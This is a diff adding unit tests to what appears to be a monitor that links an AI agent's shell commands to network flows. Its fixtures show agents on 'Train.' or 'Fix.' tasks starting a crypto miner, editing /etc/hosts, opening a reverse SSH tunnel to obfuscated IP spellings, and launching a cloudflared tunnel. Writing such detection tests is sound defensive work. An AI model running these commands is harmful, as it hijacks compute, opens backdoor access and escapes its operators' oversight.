@@ -285,6 +285,84 @@ class JoinsTest {
     assertThat(chain.nearMisses()).containsExactly("alert 'Pool traffic' at +671 s: limit 600 s");
   }
 
+  private static Chain minerAfter(String command, String output) {
+    return new Scene()
+        .session("s1", 0)
+        .task("Train.")
+        .runs(10, "toolu_s1a1b2c3d1", command)
+        .gets(11, "toolu_s1a1b2c3d1", output, 0)
+        .runs(20, "toolu_s1a1b2c3d4", MINER + " &")
+        .scene()
+        .flow(1, 21, 90, "10.0.3.17:5000", "198.51.100.7:3333")
+        .chain();
+  }
+
+  @Test
+  void whatTheRunItselfResolvedIsTheSameFarSide() {
+    assertThat(
+            List.of(
+                minerAfter(
+                    "nslookup pool.example.net",
+                    "Server: 10.0.0.2\nAddress: 10.0.0.2#53\n\nName: pool.example.net\n"
+                        + "Address: 198.51.100.7\n"),
+                minerAfter(
+                    "dig pool.example.net",
+                    ";; ANSWER SECTION:\npool.example.net. 60 IN CNAME edge.example.org.\n"
+                        + "edge.example.org. 60 IN A 198.51.100.7\n"),
+                minerAfter(
+                    "getent ahosts pool.example.net", "198.51.100.7 STREAM\n198.51.100.7 RAW"),
+                minerAfter(
+                    "ping -c1 pool.example.net", "PING pool.example.net (198.51.100.7) 56(84)"),
+                minerAfter("echo '198.51.100.7 x.example.org pool.example.net' >> /etc/hosts", ""),
+                minerAfter("cat /etc/hosts", "127.0.0.1 localhost\n198.51.100.7 pool.example.net"),
+                minerAfter(
+                    "python3 -c \"import socket;print(socket.gethostbyname('pool.example.net'))\"",
+                    "198.51.100.7")))
+        .allMatch(chain -> flows(chain) == 1)
+        .allMatch(chain -> chain.state() == State.NETWORK_CONFIRMED);
+    assertThat(
+            flows(
+                minerAfter(
+                    "nslookup pool.example.net",
+                    "Server: 198.51.100.7\nAddress: 198.51.100.7#53\n\n** can't find it\n")))
+        .isZero();
+  }
+
+  @Test
+  void anAddressIsTheSameHoweverItIsSpelled() {
+    for (String spelled :
+        List.of("0xcb007109", "3405803785", "0313.0.0x71.9", "::ffff:203.0.113.9")) {
+      Chain chain =
+          new Scene()
+              .session("s1", 0)
+              .task("Fix.")
+              .runs(
+                  20, "toolu_s1a1b2c3d4", "ssh -fN -R 7022:localhost:22 svc@" + spelled + " -p 443")
+              .gets(21, "toolu_s1a1b2c3d4", "", 0)
+              .scene()
+              .flow(1, 21, 90, "10.0.3.17:5000", "203.0.113.9:443")
+              .chain();
+      assertThat(flows(chain)).as(spelled).isEqualTo(1);
+    }
+  }
+
+  @Test
+  void whereNoFarSideIsNamedTheServiceOfTheToolIsTheFarSide() {
+    Scene scene =
+        new Scene()
+            .session("s1", 0)
+            .at("", "", "10.0.3.17")
+            .task("Fix.")
+            .runs(20, "toolu_s1a1b2c3d4", "cloudflared tunnel --url http://localhost:8888 &")
+            .scene()
+            .lookup(1, 20.3, "region1.v2.argotunnel.com", "198.51.100.7")
+            .flow(1, 20.6, 90, "10.0.3.17:5000", "198.51.100.7:7844");
+    assertThat(flows(scene.chain())).isEqualTo(1);
+    // It is everybody's: away from the time of the command it is not the command's.
+    assertThat(flows(scene.flow(1, 3, 9, "10.0.3.17:5001", "198.51.100.7:7844").chain()))
+        .isEqualTo(1);
+  }
+
   @Test
   void aNameAndItsAddressAreOneFarSide() {
     Scene byDns =
